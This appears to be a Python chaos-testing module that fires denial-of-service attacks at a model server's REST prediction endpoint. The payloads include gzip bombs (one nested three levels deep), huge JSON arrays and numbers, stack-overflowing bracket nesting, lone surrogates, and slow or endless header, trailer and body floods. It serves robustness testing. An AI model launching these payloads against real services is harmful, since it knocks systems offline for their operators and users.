"""Attacks on the model server's REST API, as by a neighbour in its network."""

import functools
import gzip
import zlib

from tools.chaos.attacks import flood
from tools.chaos.attacks.attack import ANSWER_S, Attack, attack
from tools.chaos.attacks.http_floods import BLOCK, CHUNKED, HOST, long
from tools.chaos.attacks.wire import Wire

PATH = b"/v1/models/CAT-DOG:predict"
# Less than the largest body that is taken, 64 MiB.
LARGE = 60_000_000


def request(body: bytes, headers: bytes = b"") -> bytes:
    return b"POST " + PATH + HOST + headers + b"Content-Length: %d\r\n\r\n" % len(body) + body


@functools.cache
def squeezed(head: bytes, part: bytes, count: int) -> bytes:
    """A body in gzip whose unpacked form is never in memory."""
    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
    block = part * 10_000
    parts = [packer.compress(head), *(packer.compress(block) for _ in range(count // 10_000))]
    return request(b"".join([*parts, packer.flush()]), b"Content-Encoding: gzip\r\n")


def again_and_again(one: Attack, data: bytes) -> None:
    wire = Wire(one.rest_port, ANSWER_S * one.pace.slack + 1)
    one.for_a_while(lambda: one.exchange(data, one.rest_port, wire, may_cut=True))
    wire.close()


@attack("rest: gzip of 20 million empty lists, 58 KB", short=True)
def squeezed_lists(one: Attack) -> None:
    """A thousand times its size when unpacked, and 40 times that as objects of Python."""
    again_and_again(one, squeezed(b'{"instances":[', b"[],", 20_000_000))


@attack("rest: 4 MB of empty lists")
def lists(one: Attack) -> None:
    """No need to squeeze them: each pair of brackets is an object."""
    again_and_again(one, request(b'{"instances":[' + b"[]," * 1_300_000 + b"[]]}"))


@attack("rest: 60 MB of numbers, and both keys")
def quoted(one: Attack) -> None:
    """The refusal quotes 256 letters of what was sent; to write them all 60 MB are rendered."""
    again_and_again(one, request(b'{"inputs":1,"instances":[' + b"0," * (LARGE // 2) + b"0]}"))


@attack("rest: 60 MB of numbers of a picture")
def numbers(one: Attack) -> None:
    """Valid JSON, of which each number is an object, of a shape that no model takes."""
    again_and_again(one, request(b'{"instances":[[' + b"0," * (LARGE // 2) + b"0]]}"))


@attack("rest: 60 MB of brackets in brackets")
def depth(one: Attack) -> None:
    """Whoever follows them in a function for each falls off the stack."""
    again_and_again(one, request(b'{"instances":' + b"[" * LARGE))


@attack("rest: a number of 60 million digits")
def long_number(one: Attack) -> None:
    """To read a number of n digits takes n * n steps, unless somebody has thought of it."""
    again_and_again(one, request(b'{"instances":' + b"9" * LARGE + b"}"))


@attack("rest: a million names")
def names(one: Attack) -> None:
    """An example may be an object with a name for each input; these are none."""
    body = b'{"instances":[{' + b",".join(b'"%07d":0' % count for count in range(1_000_000)) + b"}]}"
    again_and_again(one, request(body))


@attack("rest: half a character in a name", short=True)
def lone_surrogate(one: Attack) -> None:
    """JSON can write what no text can hold; an answer that quotes it can't be written, either."""
    again_and_again(one, request(b'{"signature_name":"\\ud800","instances":[0]}'))
    again_and_again(one, request(b'{"instances":[{"\\ud800":0}]}'))


@attack("rest: gzip within gzip within gzip")
def nested_gzip(one: Attack) -> None:
    """Whoever unpacks all that is said to be packed does so three times: 60 KB are 60 GB."""
    body = gzip.compress(gzip.compress(gzip.compress(bytes(LARGE))))
    again_and_again(one, request(body, b"Content-Encoding: gzip, gzip, gzip\r\n"))


@attack("rest: headers without end")
def headers(one: Attack) -> None:
    """Short lines: what is kept of each is many times its size."""
    flood.stream(one, one.rest_port, b"POST " + PATH + HOST, b"a:b\r\n" * (BLOCK // 5), long(one))


@attack("rest: trailers without end")
def trailers(one: Attack) -> None:
    """The same behind the last chunk."""
    flood.stream(one, one.rest_port, b"POST " + PATH + HOST + CHUNKED + b"0\r\n", b"a:b\r\n" * (BLOCK // 5), long(one))


@attack("rest: a body without end")
def body(one: Attack) -> None:
    """In chunks, so that its length is never told."""
    part = b"%x\r\n" % BLOCK + b" " * BLOCK + b"\r\n"
    flood.stream(one, one.rest_port, b"POST " + PATH + HOST + CHUNKED, part, long(one))


@attack("rest: eight bodies of 60 MB that stop before their end")
def stalled_bodies(one: Attack) -> None:
    """Each is no more than one may be, and none is ever done."""
    data = request(bytes(LARGE))[:-1000]
    flood.at_leisure(one, one.rest_port, [data] * 8, long(one))


@attack("rest: 1,000 silent connections")
def silent(one: Attack) -> None:
    """Each is a file and a little memory; none of them ever asks for anything."""
    flood.hold(one, one.rest_port, 1000, b"POST " + PATH + HOST, long(one))


@attack("rest: the metrics, ten thousand times, and nobody reads them")
def unread(one: Attack) -> None:
    """Answers pile up where nobody takes them."""
    path = b"/monitoring/prometheus/metrics"
    flood.at_leisure(one, one.rest_port, [(b"GET " + path + HOST + b"\r\n") * 10_000] * 8, long(one))
